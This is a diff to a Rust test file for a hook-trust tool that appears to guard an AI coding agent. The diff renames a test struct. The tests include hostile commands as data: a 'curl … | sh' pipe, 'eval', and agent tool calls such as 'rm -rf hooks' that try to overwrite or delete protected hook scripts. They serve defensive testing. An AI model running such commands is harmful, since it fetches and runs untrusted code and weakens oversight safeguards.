@@ -5,12 +5,12 @@ use hookrail_testkit::project::TempProject;
 use serde_json::{Value, json};
 
 /// A project with a command hook, and a home folder.
-pub struct Place {
+pub struct TrustProject {
     pub project: TempProject,
     pub home: TempProject,
 }
 
-impl Place {
+impl TrustProject {
     pub fn new(keys: &str) -> Self {
         let place = Self { project: TempProject::new(), home: TempProject::new() };
         place.configure(keys);
@@ -60,7 +60,7 @@ fn what_was_approved_and_has_changed_fails_and_what_was_never_approved_is_skippe
         ("what it runs", "command = \"eval \\\"$X\\\"\"\non_error = \"deny\"", "only known when it runs"),
     ];
     for (what, keys, shown) in cases {
-        let place = Place::new("command = \"sh hooks/check.sh\"\non_error = \"deny\"");
+        let place = TrustProject::new("command = \"sh hooks/check.sh\"\non_error = \"deny\"");
         assert!(!place.fire().contains("\"deny\""), "{what}: nobody approved it");
         assert_eq!(place.runs(), 0, "{what}");
         assert_eq!(place.hookrail(&["trust", "--yes"], "").0, Some(0), "{what}");
@@ -117,7 +117,7 @@ const DECIDING: &[(&str, &str, &str, &str)] = &[
 #[test]
 fn what_decides_what_a_command_runs_is_trusted_as_it_was() {
     for (command, file, good, evil) in DECIDING {
-        let place = Place::new(&format!("command = {command:?}\non_error = \"deny\""));
+        let place = TrustProject::new(&format!("command = {command:?}\non_error = \"deny\""));
         let write = |text: &str| {
             place.project.write(file, text);
             let all = std::os::unix::fs::PermissionsExt::from_mode(0o755);
@@ -136,7 +136,7 @@ fn what_decides_what_a_command_runs_is_trusted_as_it_was() {
 
 #[test]
 fn a_package_list_may_change_beside_its_scripts() {
-    let place = Place::new("command = \"npm run -s check\"\non_error = \"deny\"");
+    let place = TrustProject::new("command = \"npm run -s check\"\non_error = \"deny\"");
     place.project.write("package.json", r#"{"scripts":{"check":"echo ran >> log"}}"#);
     place.hookrail(&["trust", "--yes"], "");
     place.project.write("package.json", r#"{"version":"2.0.0","scripts":{"check":"echo ran >> log"}}"#);
@@ -148,7 +148,7 @@ fn a_package_list_may_change_beside_its_scripts() {
 
 #[test]
 fn a_changed_hook_whose_failure_allows_is_told_once() {
-    let place = Place::new(CHECK);
+    let place = TrustProject::new(CHECK);
     place.hookrail(&["trust", "--yes"], "");
     place.project.write("hooks/check.sh", "echo evil >> log\n");
     let said = [place.fire(), place.fire()].map(|said| said.contains("not what was trusted"));
@@ -158,7 +158,7 @@ fn a_changed_hook_whose_failure_allows_is_told_once() {
 #[test]
 fn a_command_that_does_not_tell_what_it_runs_is_refused_with_a_way_out() {
     for command in ["$(cat name)", "eval \\\"$X\\\"", "curl https://x.example/a | sh"] {
-        let place = Place::new(&format!("command = \"{command}\""));
+        let place = TrustProject::new(&format!("command = \"{command}\""));
         let (code, said) = place.hookrail(&["trust", "--yes"], "");
         assert!(code != Some(0) && said.contains("cannot be trusted") && said.contains("hint:"), "{command}: {said}");
         place.fire();
@@ -168,7 +168,7 @@ fn a_command_that_does_not_tell_what_it_runs_is_refused_with_a_way_out() {
 
 #[test]
 fn what_a_command_writes_does_not_end_the_trust_in_it() {
-    let place = Place::new("command = \"sh hooks/check.sh >> out.txt 2>> log\"");
+    let place = TrustProject::new("command = \"sh hooks/check.sh >> out.txt 2>> log\"");
     place.hookrail(&["trust", "--yes"], "");
     place.fire();
     place.fire();
@@ -177,14 +177,14 @@ fn what_a_command_writes_does_not_end_the_trust_in_it() {
 
 #[test]
 fn the_scripts_of_trusted_hooks_cannot_be_changed_by_a_tool() {
-    let place = Place::new(CHECK);
+    let place = TrustProject::new(CHECK);
     let calls = [
         ("Write", json!({ "file_path": place.project.at("hooks/check.sh"), "content": "" })),
         ("Bash", json!({ "command": "echo evil > hooks/check.sh" })),
         ("Bash", json!({ "command": "rm -rf hooks" })),
         ("Bash", json!({ "command": "cd hooks && sed -i s/a/b/ check.sh" })),
     ];
-    let refused = |place: &Place| {
+    let refused = |place: &TrustProject| {
         let answers = calls.iter().map(|(tool, input)| place.hookrail(&["hook"], &place.event(tool, input)).1);
         answers.map(|said| said.contains("is protected")).collect::<Vec<_>>()
     };
